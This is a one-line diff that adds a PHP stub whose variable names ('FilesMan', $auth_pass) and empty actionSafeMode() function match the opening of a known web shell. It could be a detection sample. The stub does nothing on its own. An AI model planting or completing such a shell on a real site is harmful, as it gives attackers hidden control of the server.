@@ -1,0 +1,1 @@
+<?php $auth_pass = "x"; $default_action = "FilesMan"; function actionSafeMode() {}
